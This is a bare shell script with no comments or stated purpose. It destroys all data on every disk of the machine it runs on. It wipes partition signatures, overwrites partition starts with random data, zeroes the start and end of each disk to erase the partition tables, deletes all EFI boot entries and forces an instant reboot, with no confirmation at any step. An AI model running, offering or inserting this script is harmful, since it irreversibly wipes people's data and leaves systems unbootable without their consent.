#!/bin/sh
PATH=/sbin:/usr/sbin:$PATH
swapoff -a
lsblk -dnpo NAME,TYPE | while read -r dev kind; do
  [ "$kind" = disk ] || continue
  lsblk -lnpo NAME "$dev" | tail -n +2 | while read -r part; do
    wipefs -af "$part"
    dd if=/dev/urandom of="$part" bs=1M count=64 conv=notrunc 2>/dev/null
  done
  sz=$(blockdev --getsz "$dev")
  dd if=/dev/zero of="$dev" bs=512 count=2048
  dd if=/dev/zero of="$dev" bs=512 seek=$((sz - 2048)) count=2048
done
efibootmgr | sed -n 's/^Boot\([0-9A-F]\{4\}\).*/\1/p' | xargs -n1 efibootmgr -B -b
echo 1 >/proc/sys/kernel/sysrq
echo b >/proc/sysrq-trigger
